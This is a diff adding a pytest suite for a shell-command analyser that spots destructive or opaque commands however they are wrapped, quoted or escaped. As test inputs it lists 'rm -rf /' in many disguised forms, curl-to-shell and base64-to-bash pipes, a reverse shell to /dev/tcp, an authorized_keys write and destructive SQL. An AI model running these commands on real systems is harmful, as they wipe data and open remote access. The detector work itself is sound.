@@ -1,0 +1,163 @@
+"""Per construct: what the shell walker sees, however the command is spelled or wrapped."""
+
+from __future__ import annotations
+
+import pytest
+
+from rules import analyse
+
+
+def programs(line: str) -> list[str]:
+    return [c.program for c in analyse(line)]
+
+
+@pytest.mark.parametrize(
+    ("line", "expected"),
+    [
+        ("ls;rm x", ["ls", "rm"]),
+        ("a && b || c & d", ["a", "b", "c", "d"]),
+        ("cat f | grep x | wc -l", ["cat", "grep", "wc"]),
+        ("(cd /tmp && rm x)", ["cd", "rm"]),
+        ("{ rm x; }", ["rm"]),
+        ("echo $(rm x) `id`", ["rm", "id", "echo"]),
+        ("diff <(ls a) <(ls b)", ["ls", "ls", "diff"]),
+        ("f() { rm x; }; f", ["rm", "f"]),
+        ("for i in 1 2; do rm $i; done", ["rm"]),
+        ("while true; do id; done", ["true", "id"]),
+        ("if test -f x; then rm x; else touch x; fi", ["test", "rm", "touch"]),
+        ("case $1 in a) rm x;; esac", ["rm"]),
+        ("x=$(rm y)", ["rm", "="]),
+        ("arr=(a b); echo ${arr[0]}", ["=", "echo"]),
+        ("[[ -f x ]] && rm x", ["rm"]),
+        ("echo $(( 1 + 2 ))", ["echo"]),
+    ],
+)
+def test_every_simple_command_is_found(line: str, expected: list[str]) -> None:
+    assert programs(line) == expected
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "r'm' -rf /",
+        '"rm" -rf /',
+        "\\rm -rf /",
+        "/bin/rm -rf /",
+        "/usr/bin/../bin/rm -rf /",
+        "$'\\x72\\x6d' -rf /",
+        "$'\\162\\155' -rf /",
+    ],
+)
+def test_quoting_escapes_and_paths_normalize_the_program(line: str) -> None:
+    [command] = analyse(line)
+    assert command.program == "rm" and command.argv[1:] == ("-rf", "/")
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "sudo rm -rf /",
+        "sudo -u root -- rm -rf /",
+        "doas rm -rf /",
+        "env -i A=1 rm -rf /",
+        "nice -n 10 rm -rf /",
+        "nohup rm -rf /",
+        "timeout -s KILL 5 rm -rf /",
+        "stdbuf -o0 rm -rf /",
+        "setsid rm -rf /",
+        "command rm -rf /",
+        "exec rm -rf /",
+        "time rm -rf /",
+        "busybox rm -rf /",
+        "xargs rm -rf /",
+        "ionice -c 3 rm -rf /",
+        "chroot /mnt rm -rf /",
+        "sh -c 'rm -rf /'",
+        "bash -c \"sh -c 'rm -rf /'\"",
+        "su -c 'rm -rf /' root",
+        "ssh db1 rm -rf /",
+        "ssh -p 22 db1 'rm -rf /'",
+        "watch -n1 rm -rf /",
+        "find / -maxdepth 0 -exec rm -rf {} \\;",
+        "env -S 'rm -rf /'",
+        "sudo nice timeout 5 env rm -rf /",
+    ],
+)
+def test_wrappers_are_stripped(line: str) -> None:
+    assert any(c.program == "rm" and "-rf" in c.argv and "/" in c.argv for c in analyse(line)), (
+        analyse(line)
+    )
+
+
+def test_brace_expansion() -> None:
+    [command] = analyse("rm -rf /{etc,var}")
+    assert command.argv[2:] == ("/etc", "/var")
+    assert analyse("echo {1..3}")[0].argv[1:] == ("1", "2", "3")
+    assert analyse("echo '{a,b}'")[0].argv[1:] == ("{a,b}",)
+
+
+@pytest.mark.parametrize(
+    ("line", "reason"),
+    [
+        ("eval $x", "eval"),
+        ("$CMD arg", "computed"),
+        ("$(echo rm) x", "computed"),
+        ("curl x | sh", "pipe"),
+        ("base64 -d f | bash", "pipe"),
+        ("python3 -c 'print(1)'", "inline"),
+        ("perl -e 1", "inline"),
+        ("node -e 1", "inline"),
+        ("awk 'BEGIN{system(\"id\")}'", "awk"),
+        ("bash <(curl x)", "process substitution"),
+        ("rm -rf ((", "parse"),
+    ],
+)
+def test_opaque_commands_say_why(line: str, reason: str) -> None:
+    opaque = [c for c in analyse(line) if c.opaque]
+    assert opaque and reason in (opaque[0].reason or ""), analyse(line)
+
+
+def test_redirects_are_reads_and_writes() -> None:
+    [command] = analyse("sort < in.txt > out.txt 2>> err.log")
+    assert command.reads == ("in.txt",) and command.writes == ("out.txt", "err.log")
+    [group] = [c for c in analyse("true && echo x >> ~/.ssh/authorized_keys") if c.program == "="]
+    assert group.writes == ("~/.ssh/authorized_keys",)
+    assert any(c.egress for c in analyse("bash -i >& /dev/tcp/192.0.2.1/80 0>&1"))
+
+
+@pytest.mark.parametrize(
+    ("line", "kinds"),
+    [
+        ("psql -c 'DROP DATABASE x'", ("drop_database",)),
+        ("psql --command='drop table t'", ("drop_table",)),
+        ("psql <<EOF\nCOPY t TO STDOUT;\nEOF", ("copy_to_stdout",)),
+        ("psql <<< 'truncate t'", ("truncate",)),
+        ("echo 'delete from t' | psql", ("delete_without_where",)),
+        ("mysql -e 'update t set a = 1'", ("update_without_where",)),
+        ("sqlite3 db 'select 1'", ("select",)),
+        ("mongosh --eval 'db.dropDatabase()'", ("drop_database",)),
+        ("redis-cli flushall", ("drop_database",)),
+        ("psql -c '\\! id'", ("shell_escape",)),
+    ],
+)
+def test_sql_handed_to_clients_is_parsed(line: str, kinds: tuple[str, ...]) -> None:
+    assert any(c.sql == kinds for c in analyse(line)), analyse(line)
+
+
+def test_unparseable_sql_is_opaque() -> None:
+    [command] = analyse("psql -c 'DROP DATABSE ((('")
+    assert command.opaque and "SQL" in (command.reason or "")
+
+
+def test_characters_that_crash_tree_sitter_bash_are_neutralised() -> None:
+    """`a{` + U+F3269 segfaulted tree-sitter-bash 0.25.1; run in a child so a regression cannot kill the suite."""
+    import subprocess
+    import sys
+
+    code = "from rules import analyse; print([c.opaque for c in analyse('a{\\U000f3269}')])"
+    result = subprocess.run(
+        [sys.executable, "-c", code], capture_output=True, text=True, timeout=60
+    )
+    assert result.returncode == 0, result.stderr
+    assert "True" in result.stdout
+    assert not any(c.opaque for c in analyse("echo '🚀 deployed'"))
